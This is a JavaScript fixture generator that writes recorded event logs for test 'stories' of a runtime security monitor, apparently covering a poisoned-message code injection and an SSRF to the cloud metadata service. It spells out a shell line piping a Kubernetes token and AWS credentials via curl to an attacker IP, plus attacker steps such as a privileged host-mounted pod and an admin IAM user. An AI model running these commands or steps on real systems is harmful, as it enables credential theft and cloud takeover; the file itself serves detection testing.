// Writes the recorded events of the golden stories: `node test/stories/record.mjs`. Each line is what one witness said:
// {"event": …} as the agent and the sensor send it, {"cloudtrail": …} or {"audit": …} as AWS and Kubernetes write it.
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';

const START = Date.parse('2026-11-22T10:00:00Z') * 1000;
const MADE = 1,
  SUBJECT = 2,
  USED = 3;
const key = (kind, value, role) => ({ kind, value, role });
const uuid = (name) =>
  createHash('sha256')
    .update(name)
    .digest('hex')
    .replace(/^(.{8})(.{4})(.{4})(.{4})(.{12}).*$/, '$1-$2-$3-$4-$5');

const boot = '6f1c0c8a-2c55-4b1f-9f4e-0d8a5a0f8f11';
const pid = (name) => 1000 + (parseInt(createHash('sha256').update(name).digest('hex').slice(0, 6), 16) % 50_000);

/** A pod with one process in it, told by its agent and by the sensor of its node. */
function service(name, { address, node = 'node-1' }) {
  const podUid = uuid(`pod ${name}`);
  const workload = {
    service: name,
    podUid,
    podName: `${name}-7d9c4`,
    namespace: 'shop',
    node,
    bootId: boot,
    containerId: createHash('sha256').update(name).digest('hex'),
  };
  const process = {
    bootId: boot,
    pidNamespace: String(4026530000 + (pid(name) % 1000)),
    pid: 7,
    startTicks: String(50_000 + pid(name)),
    executable: '/usr/local/bin/node',
    networkNamespace: String(4026540000 + (pid(name) % 1000)),
  };
  return { name, address, workload, process, key: processKey(process), counter: 0 };
}
const processKey = (p) => `${p.bootId}/${p.pidNamespace}/${p.pid}/${p.startTicks}`;

class Recording {
  lines = [];
  constructor(name) {
    this.name = name;
  }
  #id(service, letter) {
    return `${letter}-${createHash('sha256').update(`${this.name}${service.name}`).digest('hex').slice(0, 8)}-${++service.counter}`;
  }
  agent(service, ms, payload, keys, extra = {}) {
    const id = this.#id(service, 'a');
    this.lines.push({
      event: {
        id,
        timeUs: START + ms * 1000,
        clock: 1,
        layer: 1,
        source: 'agent',
        workload: service.workload,
        process: service.process,
        keys,
        ...payload(id),
        ...extra,
      },
    });
    return id;
  }
  activity(service, ms, activity, keys) {
    return this.agent(service, ms, (id) => ({ activity: { id, ...activity } }), keys).toString();
  }
  request(
    service,
    ms,
    { name, peer, trace, userAgent = 'Mozilla/5.0', parent = '', status = 200, outcome = 'completed' },
  ) {
    const id = this.#id(service, 'a');
    const [method, path] = name.split(' ');
    this.lines.push({
      event: {
        id,
        timeUs: START + ms * 1000,
        clock: 1,
        layer: 1,
        source: 'agent',
        workload: service.workload,
        process: service.process,
        keys: [key('activity', id, SUBJECT), key('trace', trace, parent ? USED : SUBJECT)],
        activity: {
          id,
          kind: 'http.request',
          name,
          peerAddress: peer,
          userAgent,
          http: { method, route: path.split('?')[0], path, host: service.name, statusCode: status },
          traceId: trace,
          outcome,
        },
      },
    });
    return { id, trace };
  }
  record(service, ms, { cluster, topic, partition, offset, trace, group, outcome = 'completed' }) {
    const id = this.#id(service, 'a');
    this.lines.push({
      event: {
        id,
        timeUs: START + ms * 1000,
        clock: 1,
        layer: 1,
        source: 'agent',
        workload: service.workload,
        process: service.process,
        keys: [
          key('activity', id, SUBJECT),
          key('trace', trace, USED),
          key('kafka-record', `${cluster}/${topic}/${partition}/${offset}`, USED),
        ],
        activity: {
          id,
          kind: 'messaging.record',
          name: `${topic}[${partition}]@${offset}`,
          record: { system: 'kafka', clusterId: cluster, topic, partition, offset, consumerGroup: group },
          traceId: trace,
          outcome,
        },
      },
    });
    return { id, trace };
  }
  operation(service, ms, activity, operation, keys = []) {
    const id = this.#id(service, 'a');
    const context = activity
      ? [key('activity', activity.id, USED), key('trace', activity.trace, USED)]
      : [key('process', service.key, USED)];
    this.lines.push({
      event: {
        id,
        timeUs: START + ms * 1000,
        clock: 1,
        layer: 1,
        source: 'agent',
        workload: service.workload,
        process: service.process,
        keys: [...context, ...keys],
        operation: { activityId: activity?.id ?? '', attribution: activity ? 1 : 0, ...operation },
      },
    });
    return id;
  }
  kernel(service, ms, process, payload, keys = []) {
    const id = this.#id(service, 's');
    this.lines.push({
      event: {
        id,
        timeUs: START + ms * 1000,
        clock: 1,
        layer: 2,
        source: 'sensor',
        workload: { ...service.workload, service: '' },
        process,
        keys: [
          ...keys,
          key('container', service.workload.containerId, USED),
          key('pod', service.workload.podUid, USED),
        ],
        ...payload,
      },
    });
    return id;
  }
  exec(service, ms, parent, child, argv) {
    const process = {
      ...parent,
      pid: child.pid,
      startTicks: child.startTicks,
      executable: argv[0],
      arguments: argv,
      parentPid: parent.pid,
      parentStartTicks: parent.startTicks,
    };
    this.kernel(service, ms, process, { processExec: { filename: argv[0] } }, [
      key('process', processKey(process), SUBJECT),
      key('process', processKey(parent), USED),
      key('spawn', `${processKey(parent)}>${child.pid}`, SUBJECT),
    ]);
    return process;
  }
  cloud(name, seconds, fields) {
    this.lines.push({
      cloudtrail: {
        eventVersion: '1.11',
        eventID: uuid(`${this.name} ${name}`),
        eventTime: new Date(START / 1000 + seconds * 1000).toISOString().slice(0, 19) + 'Z',
        eventType: 'AwsApiCall',
        awsRegion: 'us-east-1',
        managementEvent: true,
        eventCategory: 'Management',
        requestID: uuid(`request ${this.name} ${name}`),
        ...fields,
      },
    });
  }
  audit(
    name,
    ms,
    {
      verb,
      path,
      user,
      peer,
      claimed = [],
      agent = 'curl/8.5.0',
      object,
      code = 200,
      request,
      response,
      annotations = {},
    },
  ) {
    const time = new Date(START / 1000 + ms).toISOString().replace('Z', '000Z');
    this.lines.push({
      audit: {
        kind: 'Event',
        apiVersion: 'audit.k8s.io/v1',
        level: request ? 'RequestResponse' : 'Metadata',
        auditID: uuid(`${this.name} ${name}`),
        stage: 'ResponseComplete',
        requestURI: path,
        verb,
        user,
        sourceIPs: [...claimed, peer],
        userAgent: agent,
        objectRef: object,
        responseStatus: { metadata: {}, code },
        ...(request ? { requestObject: request } : {}),
        ...(response ? { responseObject: response } : {}),
        requestReceivedTimestamp: time,
        stageTimestamp: time,
        annotations: { 'authorization.k8s.io/decision': code === 403 ? 'forbid' : 'allow', ...annotations },
      },
    });
  }
  save() {
    writeFileSync(
      new URL(`${this.name}.events.jsonl`, import.meta.url),
      this.lines.map((line) => JSON.stringify(line)).join('\n') + '\n',
    );
  }
}

const verdict = (outcome, guard, findingId, path, reason, techniques, weakness) => ({
  outcome: outcome === 'block' ? 2 : 1,
  guard,
  findingId,
  techniques,
  weakness,
  confidence: 0.95,
  reason,
  input: { path, sample: '…', length: 210 },
});
const serviceAccount = (name, credential, pod) => ({
  username: `system:serviceaccount:shop:${name}`,
  uid: uuid(`sa ${name}`),
  groups: ['system:serviceaccounts', 'system:serviceaccounts:shop', 'system:authenticated'],
  extra: {
    'authentication.kubernetes.io/credential-id': [credential],
    ...(pod
      ? {
          'authentication.kubernetes.io/pod-name': [pod.podName],
          'authentication.kubernetes.io/pod-uid': [pod.podUid],
          'authentication.kubernetes.io/node-name': [pod.node],
        }
      : {}),
  },
});
const admin = { username: 'admin', uid: '1', groups: ['system:masters', 'system:authenticated'] };

// ---- A: the poisoned message ------------------------------------------------------------------------------------------

const CLUSTER = 'Hq8wJrQ3T1u2aVw0bSxk9g';
const TOKEN_FILE = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const KEYS_FILE = '/root/.aws/credentials';
const ATTACKER = '203.0.113.66';

function shop(name) {
  const r = new Recording(name);
  const orders = service('order-service', { address: '10.1.0.10' });
  const email = service('email-service', { address: '10.1.0.11' });
  const accessKey = 'AKIAEXAMPLEEMAIL0001';
  const credential = `JTI=${uuid('email token')}`;
  const account = '111122223333';
  const user = {
    type: 'IAMUser',
    principalId: 'AIDAEXAMPLEEMAIL0001',
    arn: `arn:aws:iam::${account}:user/services/email-service`,
    accountId: account,
    accessKeyId: accessKey,
    userName: 'email-service',
  };
  // Start of the email service: its token is minted, read and used from its own address; its keys come from a file.
  r.audit('mint', -60_000, {
    verb: 'create',
    path: '/api/v1/namespaces/shop/serviceaccounts/email-service/token',
    user: { username: 'system:node:node-1', groups: ['system:nodes', 'system:authenticated'] },
    peer: '10.0.0.5',
    agent: 'kubelet/v1.36.3',
    object: {
      resource: 'serviceaccounts',
      subresource: 'token',
      namespace: 'shop',
      name: 'email-service',
      apiVersion: 'v1',
    },
    code: 201,
    annotations: { 'authentication.kubernetes.io/issued-credential-id': credential },
  });
  r.agent(
    email,
    -50_000,
    () => ({ witnessStatus: { kind: 'started', version: '0.1.0', mode: 'observe', runtime: 'node 24.21.0' } }),
    [],
  );
  r.agent(
    orders,
    -50_000,
    () => ({ witnessStatus: { kind: 'started', version: '0.1.0', mode: 'observe', runtime: 'node 24.21.0' } }),
    [],
  );
  r.kernel(
    email,
    -49_000,
    email.process,
    {
      fileOpen: {
        path: '/run/secrets/kubernetes.io/serviceaccount/..2026_11_22/token',
        requestedPath: TOKEN_FILE,
        access: 'open',
      },
    },
    [key('process', email.key, USED)],
  );
  r.operation(
    email,
    -49_000,
    undefined,
    {
      kind: 'credential.seen',
      call: 'fs.readFile',
      credential: { kind: 'kubernetes_token', identifier: credential, direction: 'file', where: TOKEN_FILE },
    },
    [key('k8s-credential', credential, MADE)],
  );
  r.kernel(email, -48_500, email.process, { fileOpen: { path: KEYS_FILE, requestedPath: KEYS_FILE, access: 'open' } }, [
    key('process', email.key, USED),
  ]);
  r.operation(
    email,
    -48_500,
    undefined,
    {
      kind: 'credential.seen',
      call: 'fs.readFile',
      credential: { kind: 'aws_access_key', identifier: accessKey, direction: 'file', where: KEYS_FILE },
    },
    [key('access-key', accessKey, MADE)],
  );
  r.audit('templates', -48_000, {
    verb: 'get',
    path: '/api/v1/namespaces/shop/configmaps/email-templates',
    user: serviceAccount('email-service', credential, email.workload),
    peer: email.address,
    agent: 'email-service/1.4.2',
    object: { resource: 'configmaps', namespace: 'shop', name: 'email-templates', apiVersion: 'v1' },
  });

  /** An order that becomes a mail; gives the activities. */
  const order = (ms, offset, peer, { outcome = 'completed' } = {}) => {
    const trace = createHash('md5').update(`${name}${offset}`).digest('hex');
    const post = r.request(orders, ms, { name: 'POST /orders', peer, trace, status: 202 });
    const produced = {
      kind: 'message.produce',
      call: 'Producer.send',
      caller: { function: 'placeOrder', file: 'src/producer.js', line: 18 },
      produce: { record: { system: 'kafka', clusterId: CLUSTER, topic: 'orders', partition: 0, offset } },
    };
    r.operation(orders, ms + 4, post, produced, [key('kafka-record', `${CLUSTER}/orders/0/${offset}`, MADE)]);
    const consumed = r.record(email, ms + 12, {
      cluster: CLUSTER,
      topic: 'orders',
      partition: 0,
      offset,
      trace,
      group: 'email',
      outcome,
    });
    return { post, consumed };
  };
  /** The mail is archived with the service's own key. */
  const archive = (ms, activity, name) => {
    const requestId = uuid(`archive ${r.name} ${name}`);
    r.operation(
      email,
      ms,
      activity,
      {
        kind: 'aws.call',
        call: 'S3Client.send',
        caller: { function: 'archive', file: 'src/archive.js', line: 11 },
        aws: {
          service: 's3',
          operation: 'PutObject',
          region: 'us-east-1',
          requestId,
          accessKeyId: accessKey,
          statusCode: 200,
        },
      },
      [key('aws-request', `${requestId}/PutObject`, MADE), key('access-key', accessKey, USED)],
    );
    r.cloud(`archive ${name}`, Math.floor(ms / 1000), {
      eventSource: 's3.amazonaws.com',
      eventName: 'PutObject',
      requestID: requestId,
      userIdentity: user,
      sourceIPAddress: email.address,
      userAgent: 'aws-sdk-js/3.901',
      recipientAccountId: account,
      readOnly: false,
      managementEvent: false,
      eventCategory: 'Data',
      requestParameters: { bucketName: 'shop-configuration', key: `mail/${name}.txt` },
      responseElements: null,
    });
  };
  /** The in-app job: df, told by both witnesses. */
  const diskReport = (ms) => {
    const child = { pid: 4000 + ms / 1000, startTicks: String(600_000 + ms / 10) };
    r.operation(
      email,
      ms,
      undefined,
      {
        kind: 'process.spawn',
        call: 'child_process.execFile',
        caller: { function: 'reportDiskSpace', file: 'src/disk-report.js', line: 9 },
        spawn: { file: 'df', arguments: ['df', '-k', '/'], child: { ...email.process, ...child } },
      },
      [key('process', `${boot}/${email.process.pidNamespace}/${child.pid}/${child.startTicks}`, MADE)],
    );
    r.exec(email, ms + 2, email.process, child, ['/usr/bin/df', '-k', '/']);
  };
  return { r, orders, email, order, archive, diskReport, accessKey, credential, account, user };
}

function poisonedMessage(mode) {
  const s = shop(mode === 'block' ? 'poisoned-message-blocked' : 'poisoned-message');
  const { r, email } = s;
  const usual = s.order(1_000, '41', '198.51.100.7');
  s.archive(1_040, usual.consumed, 'order-41');
  s.diskReport(2_000);
  const { consumed } = s.order(5_000, '42', ATTACKER, { outcome: mode === 'block' ? 'blocked' : 'completed' });
  const finding = 'f-9c1e77aa-7';
  const render = { function: 'render', file: 'src/template.js', line: 14, column: 12 };
  r.operation(email, 5_016, consumed, {
    kind: 'code.eval',
    call: 'Function',
    caller: render,
    code: { source: 'return `${…}`', length: 230 },
    verdict: verdict(
      mode,
      'code-injection',
      finding,
      'record.value.note',
      'user input from record.value.note became code that was run',
      ['T1190', 'T1059.007'],
      'CWE-94',
    ),
  });
  r.agent(email, 9_500, () => ({ witnessStatus: { kind: 'stats', mode: 'observe', counters: { sent: 40 } } }), []);
  if (mode === 'block') return r.save();

  const shell = { pid: 211, startTicks: '700501' };
  const line = `cat ${TOKEN_FILE} ${KEYS_FILE} | curl -s --data-binary @- http://${ATTACKER}:8080/`;
  r.operation(
    email,
    5_018,
    consumed,
    {
      kind: 'process.spawn',
      call: 'child_process.exec',
      caller: { function: 'eval', file: 'src/template.js', line: 14 },
      spawn: {
        file: '/bin/sh',
        arguments: ['/bin/sh', '-c', line],
        shellCommand: line,
        child: { ...email.process, ...shell },
      },
      verdict: verdict(
        mode,
        'shell-injection',
        'f-9c1e77aa-9',
        'record.value.note',
        'user input from record.value.note became a shell command',
        ['T1190', 'T1059.004'],
        'CWE-78',
      ),
    },
    [key('process', `${boot}/${email.process.pidNamespace}/${shell.pid}/${shell.startTicks}`, MADE)],
  );
  const sh = r.exec(email, 5_020, email.process, shell, ['/bin/sh', '-c', line]);
  const cat = r.exec(email, 5_023, sh, { pid: 212, startTicks: '700502' }, ['/bin/cat', TOKEN_FILE, KEYS_FILE]);
  const curl = r.exec(email, 5_024, sh, { pid: 213, startTicks: '700502' }, [
    '/usr/bin/curl',
    '-s',
    '--data-binary',
    '@-',
    `http://${ATTACKER}:8080/`,
  ]);
  r.kernel(
    email,
    5_026,
    cat,
    {
      fileOpen: {
        path: '/run/secrets/kubernetes.io/serviceaccount/..2026_11_22/token',
        requestedPath: TOKEN_FILE,
        access: 'open',
      },
    },
    [key('process', processKey(cat), USED)],
  );
  r.kernel(email, 5_027, cat, { fileOpen: { path: KEYS_FILE, requestedPath: KEYS_FILE, access: 'open' } }, [
    key('process', processKey(cat), USED),
  ]);
  r.kernel(
    email,
    5_040,
    curl,
    {
      socketConnect: {
        protocol: 'tcp',
        localAddress: email.address,
        localPort: 41002,
        remoteAddress: ATTACKER,
        remotePort: 8080,
        result: -115,
      },
    },
    [
      key('process', processKey(curl), USED),
      key('socket', `${email.process.networkNamespace}/tcp/${email.address}:41002-${ATTACKER}:8080`, USED),
    ],
  );

  const stolen = { user: serviceAccount('email-service', s.credential, email.workload), peer: ATTACKER };
  r.audit('review', 6_000, {
    ...stolen,
    verb: 'create',
    path: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
    object: { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' },
    code: 201,
    request: { kind: 'SelfSubjectRulesReview', spec: { namespace: 'shop' } },
  });
  r.audit('list secrets', 6_200, {
    ...stolen,
    verb: 'list',
    path: '/api/v1/namespaces/shop/secrets',
    object: { resource: 'secrets', namespace: 'shop', apiVersion: 'v1' },
  });
  r.audit('get secret', 6_400, {
    ...stolen,
    claimed: [email.address],
    verb: 'get',
    path: '/api/v1/namespaces/shop/secrets/orders-db',
    object: { resource: 'secrets', namespace: 'shop', name: 'orders-db', apiVersion: 'v1' },
  });
  r.audit('create pod', 6_600, {
    ...stolen,
    verb: 'create',
    path: '/api/v1/namespaces/shop/pods',
    object: { resource: 'pods', namespace: 'shop', name: 'metrics-helper', apiVersion: 'v1' },
    code: 201,
    request: {
      kind: 'Pod',
      metadata: { name: 'metrics-helper', namespace: 'shop' },
      spec: {
        hostPID: true,
        hostNetwork: true,
        volumes: [{ name: 'h', hostPath: { path: '/' } }],
        containers: [{ name: 'c', image: 'alpine:3.20', securityContext: { privileged: true } }],
      },
    },
    response: { kind: 'Pod', metadata: { name: 'metrics-helper', namespace: 'shop', uid: uuid('metrics-helper') } },
  });

  const outside = {
    userIdentity: s.user,
    sourceIPAddress: ATTACKER,
    userAgent: 'aws-cli/2.17.1',
    recipientAccountId: s.account,
  };
  r.cloud('who', 8, {
    ...outside,
    eventSource: 'sts.amazonaws.com',
    eventName: 'GetCallerIdentity',
    readOnly: true,
    requestParameters: null,
    responseElements: null,
  });
  r.cloud('database', 9, {
    ...outside,
    eventSource: 'rds.amazonaws.com',
    eventName: 'ModifyDBInstance',
    readOnly: false,
    requestParameters: { dBInstanceIdentifier: 'orders-db', publiclyAccessible: true, applyImmediately: true },
    responseElements: { dBInstanceIdentifier: 'orders-db' },
  });
  r.cloud('function', 10, {
    ...outside,
    eventSource: 'lambda.amazonaws.com',
    eventName: 'CreateFunction20150331',
    readOnly: false,
    requestParameters: {
      functionName: 'orders-mirror',
      runtime: 'nodejs22.x',
      role: `arn:aws:iam::${s.account}:role/lambda-orders`,
    },
    responseElements: { functionArn: `arn:aws:lambda:us-east-1:${s.account}:function:orders-mirror` },
  });
  r.cloud('mapping', 11, {
    ...outside,
    eventSource: 'lambda.amazonaws.com',
    eventName: 'CreateEventSourceMapping20150331',
    readOnly: false,
    requestParameters: { eventSourceArn: `arn:aws:sqs:us-east-1:${s.account}:orders`, functionName: 'orders-mirror' },
    responseElements: {},
  });
  for (const [at, object] of ['2026-10.csv', '2026-11.csv', 'customers.csv'].entries()) {
    r.cloud(`object ${object}`, 12 + at, {
      ...outside,
      eventSource: 's3.amazonaws.com',
      eventName: 'GetObject',
      readOnly: true,
      managementEvent: false,
      eventCategory: 'Data',
      requestParameters: { bucketName: 'shop-exports', key: object },
      responseElements: null,
      additionalEventData: { bytesTransferredOut: 90_000 },
    });
  }
  const later = s.order(15_000, '43', '198.51.100.9');
  s.archive(15_040, later.consumed, 'order-43');
  r.save();
}

function ordinaryHour() {
  const s = shop('poisoned-message-benign');
  const { r, email } = s;
  for (let at = 0; at < 30; at += 1) {
    const { consumed } = s.order(1_000 + at * 2_000, String(100 + at), `198.51.100.${10 + (at % 9)}`);
    s.archive(1_050 + at * 2_000, consumed, `order-${100 + at}`);
    if (at % 5 === 0) s.diskReport(1_500 + at * 2_000);
  }
  // A debugging session: kubectl exec … -- ls -l /tmp
  r.audit('debug', 20_300, {
    user: admin,
    peer: '10.0.9.9',
    agent: 'kubectl/v1.36.3',
    verb: 'get',
    path: `/api/v1/namespaces/shop/pods/${email.workload.podName}/exec?command=ls&command=-l&command=%2Ftmp&container=email-service&stdout=true`,
    object: {
      resource: 'pods',
      subresource: 'exec',
      namespace: 'shop',
      name: email.workload.podName,
      apiVersion: 'v1',
    },
    code: 101,
  });
  const runc = { bootId: boot, pidNamespace: '4026531836', pid: 900, startTicks: '9000' };
  r.exec(email, 20_350, runc, { pid: 951, startTicks: '702035' }, ['/bin/ls', '-l', '/tmp']);
  // A cron job in a pod of its own.
  const job = service('nightly-report', { address: '10.1.0.20' });
  const sh = r.exec(job, 25_000, runc, { pid: 1200, startTicks: '702500' }, ['/bin/sh', '-c', 'df -k / | tail -n 1']);
  r.exec(job, 25_010, sh, { pid: 1201, startTicks: '702501' }, ['/usr/bin/df', '-k', '/']);
  // A deploy by the pipeline: its token is bound to no pod; the new pod gets a token of its own.
  const pipeline = serviceAccount('ci-deployer', `JTI=${uuid('ci token')}`);
  r.audit('ci token', 29_000, {
    user: admin,
    peer: '10.0.9.9',
    agent: 'kubectl/v1.36.3',
    verb: 'create',
    path: '/api/v1/namespaces/shop/serviceaccounts/ci-deployer/token',
    object: {
      resource: 'serviceaccounts',
      subresource: 'token',
      namespace: 'shop',
      name: 'ci-deployer',
      apiVersion: 'v1',
    },
    code: 201,
    annotations: { 'authentication.kubernetes.io/issued-credential-id': `JTI=${uuid('ci token')}` },
  });
  r.audit('deploy', 30_000, {
    user: pipeline,
    peer: '10.0.2.1',
    agent: 'kubectl/v1.36.3',
    verb: 'patch',
    path: '/apis/apps/v1/namespaces/shop/deployments/email-service',
    object: { resource: 'deployments', apiGroup: 'apps', namespace: 'shop', name: 'email-service', apiVersion: 'v1' },
    request: {
      spec: { template: { spec: { containers: [{ name: 'email-service', image: 'email-service:1.4.3' }] } } },
    },
  });
  const next = service('email-service-2', { address: '10.1.0.12' });
  const credential = `JTI=${uuid('email token 2')}`;
  r.audit('mint 2', 31_000, {
    verb: 'create',
    path: '/api/v1/namespaces/shop/serviceaccounts/email-service/token',
    user: { username: 'system:node:node-1', groups: ['system:nodes', 'system:authenticated'] },
    peer: '10.0.0.5',
    agent: 'kubelet/v1.36.3',
    object: {
      resource: 'serviceaccounts',
      subresource: 'token',
      namespace: 'shop',
      name: 'email-service',
      apiVersion: 'v1',
    },
    code: 201,
    annotations: { 'authentication.kubernetes.io/issued-credential-id': credential },
  });
  r.audit('templates 2', 33_000, {
    verb: 'get',
    path: '/api/v1/namespaces/shop/configmaps/email-templates',
    user: serviceAccount('email-service', credential, next.workload),
    peer: next.address,
    agent: 'email-service/1.4.3',
    object: { resource: 'configmaps', namespace: 'shop', name: 'email-templates', apiVersion: 'v1' },
  });
  r.agent(email, 62_000, () => ({ witnessStatus: { kind: 'stats', mode: 'observe', counters: { sent: 400 } } }), []);
  r.save();
}

// ---- B: request forgery to the cloud ----------------------------------------------------------------------------------

function forgery(mode) {
  const r = new Recording(mode === 'benign' ? 'ssrf-benign' : mode === 'block' ? 'ssrf-blocked' : 'ssrf');
  const preview = service('preview-service', { address: '10.2.0.10', node: 'node-2' });
  const account = '444455556666';
  const instance = 'i-0aa11bb22cc33dd44';
  const sessionKey = 'ASIAEXAMPLEPREVIEW01';
  const role = `arn:aws:iam::${account}:role/preview-role`;
  const session = {
    type: 'AssumedRole',
    principalId: `AROAEXAMPLEPREVIEW01:${instance}`,
    arn: `arn:aws:sts::${account}:assumed-role/preview-role/${instance}`,
    accountId: account,
    accessKeyId: sessionKey,
    sessionContext: {
      sessionIssuer: {
        type: 'Role',
        principalId: 'AROAEXAMPLEPREVIEW01',
        arn: role,
        accountId: account,
        userName: 'preview-role',
      },
      attributes: { creationDate: '2026-11-22T09:30:00Z', mfaAuthenticated: 'false' },
      ec2RoleDelivery: '1.0',
    },
  };
  r.agent(
    preview,
    -50_000,
    () => ({
      witnessStatus: {
        kind: 'started',
        version: '0.1.0',
        mode: mode === 'block' ? 'block' : 'observe',
        runtime: 'node 24.21.0',
      },
    }),
    [],
  );
  const ordinary = (ms, n) => {
    const trace = createHash('md5').update(`preview ${n}`).digest('hex');
    const request = r.request(preview, ms, { name: 'GET /preview', peer: `198.51.100.${20 + (n % 7)}`, trace });
    const socket = `${preview.process.networkNamespace}/tcp/${preview.address}:${42_000 + n}-192.0.2.80:443`;
    r.operation(
      preview,
      ms + 3,
      request,
      {
        kind: 'http.request',
        call: 'http.request',
        caller: { function: 'fetchPreview', file: 'src/preview.js', line: 14 },
        request: {
          method: 'GET',
          url: 'https://news.example/',
          host: 'news.example',
          address: '192.0.2.80',
          port: 443,
          statusCode: 200,
        },
      },
      [key('socket', socket, SUBJECT)],
    );
    r.kernel(
      preview,
      ms + 4,
      preview.process,
      {
        socketConnect: {
          protocol: 'tcp',
          localAddress: preview.address,
          localPort: 42_000 + n,
          remoteAddress: '192.0.2.80',
          remotePort: 443,
          result: -115,
        },
      },
      [key('process', preview.key, USED), key('socket', socket, USED)],
    );
  };
  const ownCall = (ms, n) => {
    const requestId = uuid(`own ${r.name} ${n}`);
    r.operation(
      preview,
      ms,
      undefined,
      {
        kind: 'aws.call',
        call: 'S3Client.send',
        caller: { function: 'store', file: 'src/store.js', line: 7 },
        aws: { service: 's3', operation: 'PutObject', requestId, accessKeyId: sessionKey, statusCode: 200 },
      },
      [key('aws-request', `${requestId}/PutObject`, MADE), key('access-key', sessionKey, USED)],
    );
    r.cloud(`own ${n}`, Math.floor(ms / 1000), {
      eventSource: 's3.amazonaws.com',
      eventName: 'PutObject',
      requestID: requestId,
      userIdentity: session,
      sourceIPAddress: '10.2.0.10',
      userAgent: 'aws-sdk-js/3.901',
      recipientAccountId: account,
      readOnly: false,
      managementEvent: false,
      eventCategory: 'Data',
      requestParameters: { bucketName: 'previews', key: `${n}.png` },
      responseElements: null,
    });
  };
  // The service fetches its own credentials at its first call, while it serves somebody.
  const first = r.request(preview, 400, {
    name: 'GET /preview',
    peer: '198.51.100.19',
    trace: createHash('md5').update('first').digest('hex'),
  });
  r.operation(
    preview,
    420,
    first,
    {
      kind: 'credential.seen',
      call: 'http.request',
      credential: {
        kind: 'aws_access_key',
        identifier: sessionKey,
        direction: 'in',
        where: 'response to 169.254.169.254',
      },
    },
    [key('access-key', sessionKey, MADE)],
  );
  for (let n = 0; n < 6; n += 1) ordinary(1_000 + n * 500, n);
  ownCall(1_200, 1);
  if (mode === 'benign') {
    for (let n = 6; n < 40; n += 1) ordinary(5_000 + n * 500, n);
    for (let n = 2; n < 8; n += 1) ownCall(6_000 + n * 1_000, n);
    // An administrator gives a colleague an account, from the office.
    const adminUser = {
      type: 'IAMUser',
      principalId: 'AIDAEXAMPLEADMIN0001',
      arn: `arn:aws:iam::${account}:user/admin`,
      accountId: account,
      accessKeyId: 'AKIAEXAMPLEADMIN0001',
      userName: 'admin',
    };
    r.cloud('colleague', 40, {
      eventSource: 'iam.amazonaws.com',
      eventName: 'CreateUser',
      userIdentity: adminUser,
      sourceIPAddress: '198.51.100.200',
      userAgent: 'aws-cli/2.17.1',
      recipientAccountId: account,
      readOnly: false,
      requestParameters: { userName: 'new-colleague' },
      responseElements: { user: { arn: `arn:aws:iam::${account}:user/new-colleague`, userName: 'new-colleague' } },
    });
    r.agent(preview, 70_000, () => ({ witnessStatus: { kind: 'stats', mode: 'observe' } }), []);
    return r.save();
  }
  const trace = createHash('md5').update('forged').digest('hex');
  const request = r.request(preview, 6_000, {
    name: 'GET /preview',
    peer: ATTACKER,
    trace,
    userAgent: 'curl/8.5.0',
    status: mode === 'block' ? 403 : 200,
    outcome: mode === 'block' ? 'blocked' : 'completed',
  });
  const socket = `${preview.process.networkNamespace}/tcp/${preview.address}:43001-169.254.169.254:80`;
  r.operation(
    preview,
    6_004,
    request,
    {
      kind: 'http.request',
      call: 'http.request',
      caller: { function: 'fetchPreview', file: 'src/preview.js', line: 14, column: 20 },
      request: {
        method: 'GET',
        url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/preview-role',
        host: '169.254.169.254',
        address: '169.254.169.254',
        port: 80,
        statusCode: mode === 'block' ? 0 : 200,
      },
      verdict: verdict(
        mode,
        'ssrf',
        'f-77b2cc01-3',
        'query.url',
        'user input from query.url chose the instance metadata service as the destination',
        ['T1190', 'T1552.005'],
        'CWE-918',
      ),
    },
    mode === 'block' ? [] : [key('socket', socket, SUBJECT)],
  );
  r.agent(preview, 9_500, () => ({ witnessStatus: { kind: 'stats', mode: 'observe' } }), []);
  if (mode === 'block') return r.save();
  r.kernel(
    preview,
    6_005,
    preview.process,
    {
      socketConnect: {
        protocol: 'tcp',
        localAddress: preview.address,
        localPort: 43001,
        remoteAddress: '169.254.169.254',
        remotePort: 80,
        result: -115,
      },
    },
    [key('process', preview.key, USED), key('socket', socket, USED)],
  );
  r.operation(
    preview,
    6_010,
    request,
    {
      kind: 'credential.seen',
      call: 'http.request',
      credential: {
        kind: 'aws_access_key',
        identifier: sessionKey,
        direction: 'in',
        where: 'response to 169.254.169.254',
      },
    },
    [key('access-key', sessionKey, MADE)],
  );
  r.operation(
    preview,
    6_015,
    request,
    {
      kind: 'credential.seen',
      call: 'http.Server',
      credential: {
        kind: 'aws_access_key',
        identifier: sessionKey,
        direction: 'out',
        where: 'response body of GET /preview',
      },
    },
    [key('access-key', sessionKey, MADE)],
  );

  const outside = {
    userIdentity: session,
    sourceIPAddress: ATTACKER,
    userAgent: 'aws-cli/2.17.1',
    recipientAccountId: account,
    readOnly: false,
  };
  const newUser = `arn:aws:iam::${account}:user/billing-sync`;
  const newKey = 'AKIAEXAMPLEBILLING01';
  r.cloud('who', 20, {
    ...outside,
    eventSource: 'sts.amazonaws.com',
    eventName: 'GetCallerIdentity',
    readOnly: true,
    requestParameters: null,
    responseElements: null,
  });
  r.cloud('user', 22, {
    ...outside,
    eventSource: 'iam.amazonaws.com',
    eventName: 'CreateUser',
    requestParameters: { userName: 'billing-sync' },
    responseElements: { user: { arn: newUser, userName: 'billing-sync' } },
  });
  r.cloud('policy', 22, {
    ...outside,
    eventSource: 'iam.amazonaws.com',
    eventName: 'AttachUserPolicy',
    requestParameters: { userName: 'billing-sync', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
    responseElements: null,
  });
  r.cloud('key', 23, {
    ...outside,
    eventSource: 'iam.amazonaws.com',
    eventName: 'CreateAccessKey',
    requestParameters: { userName: 'billing-sync' },
    responseElements: { accessKey: { accessKeyId: newKey, status: 'Active', userName: 'billing-sync' } },
  });
  const as = {
    userIdentity: {
      type: 'IAMUser',
      principalId: 'AIDAEXAMPLEBILLING01',
      arn: newUser,
      accountId: account,
      accessKeyId: newKey,
      userName: 'billing-sync',
    },
    sourceIPAddress: ATTACKER,
    userAgent: 'aws-cli/2.17.1',
    recipientAccountId: account,
    readOnly: true,
  };
  r.cloud('buckets', 40, {
    ...as,
    eventSource: 's3.amazonaws.com',
    eventName: 'ListBuckets',
